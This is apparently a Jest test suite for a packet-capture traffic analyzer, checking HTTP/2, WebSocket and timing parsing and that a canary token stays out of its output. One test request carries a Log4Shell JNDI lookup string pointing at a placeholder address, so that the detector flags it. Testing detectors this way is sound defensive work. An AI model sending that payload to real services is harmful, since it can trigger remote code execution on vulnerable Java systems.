import { connect, createServer } from 'node:http2';
import { expect, test } from '@jest/globals';
import { requires } from '../../kit/requires.js';
import { packetsOf } from './wire/packets.js';
import { type Conversation, recordingProxy } from './wire/recording-proxy.js';
import { answer, overhear, total } from './wire/spoken.js';

const canary = 'canary-4711-value';

/** What goes over the wire between a client and a service that speak HTTP/2 in clear. */
async function http2Exchange(): Promise<Conversation> {
  const server = createServer((request, response) => {
    request.resume().on('end', () => {
      response.writeHead(request.method === 'POST' ? 201 : 200, { 'content-type': 'application/json' });
      response.end(JSON.stringify({ note: canary }));
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  const proxy = await recordingProxy(typeof address === 'object' && address ? address.port : 0);
  const session = connect(`http://127.0.0.1:${proxy.port}`);
  const ask = (headers: Record<string, string>, body?: string): Promise<void> =>
    new Promise((resolve, reject) => {
      const stream = session.request({ ':authority': 'shop.test', ...headers });
      stream.on('error', reject).on('end', resolve).resume();
      stream.end(body);
    });
  try {
    await ask({ ':path': '/orders/17', authorization: `Bearer ${canary}` });
    await ask({ ':path': '/orders', ':method': 'POST', 'content-type': 'application/json' }, '{"a":1}');
    await ask({ ':path': '/orders', 'if-none-match': '${jndi:ldap://198.51.100.9/a}' });
  } finally {
    await new Promise<void>((resolve) => session.close(resolve));
    await proxy.close();
    await new Promise((resolve) => server.close(resolve));
  }
  return [...(proxy.conversations[0] ?? [])];
}

requires('suricata')('from the packets of a capture', () => {
  test('HTTP/2 in clear text is told with its headers, each stream with its own answer', async () => {
    const spoken = await http2Exchange();
    const heard = await overhear([], {}, () => packetsOf(spoken, 45_000));
    const told = heard.calls.map(({ method, host, path, response, transport }) => [
      ...[method, host, path.map((part) => (typeof part === 'string' ? part : part.type)).join('/')],
      ...[response.status, transport.http],
    ]);
    expect(told).toEqual([
      ['GET', 'shop.test', 'orders/int', 200, '2'],
      ['POST', 'shop.test', 'orders', 201, '2'],
      ['GET', 'shop.test', 'orders', 200, '2'],
    ]);
    expect(heard.calls[0]?.principal?.kind).toBeDefined();
    expect(heard.calls[1]?.request?.contentType).toBe('application/json');
    expect(heard.calls[2]?.signals?.map(({ rule }) => rule)).toEqual(['log4shell.jndi']);
    expect(total(heard, 'unpaired')).toBe(0);
    expect(heard.text).not.toContain(canary);
  }, 60_000);

  test('a WebSocket is its handshake, whatever flows behind it', async () => {
    const asked =
      'GET /live HTTP/1.1\r\nHost: shop.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n';
    const answered =
      'HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n\r\n';
    const frame = (text: string): Buffer =>
      Buffer.concat([Buffer.from([0x81, text.length]), Buffer.from(text)]);
    const inside = 'GET /never HTTP/1.1\r\nHost: a\r\n\r\n';
    const heard = await overhear([
      { turns: [asked, answered, frame(canary), frame(inside), inside, answer()] },
    ]);
    expect(heard.calls.map(({ protocol, path, response }) => [protocol, path, response.status])).toEqual([
      ['websocket', ['live'], 101],
    ]);
    expect(heard.text).not.toContain(canary);
  }, 60_000);

  test('each call of a connection bears the time of its own packets', async () => {
    const asked = 'GET /orders HTTP/1.1\r\nHost: shop.test\r\n\r\n';
    const { calls } = await overhear([
      { turns: [asked, answer(), asked, answer(), asked, answer()], turnMs: 10_250 },
    ]);
    const [first = 0, ...others] = calls.map(({ time }) => time);
    expect(others.map((time) => time - first)).toEqual([20_500, 41_000]);
  }, 60_000);
});
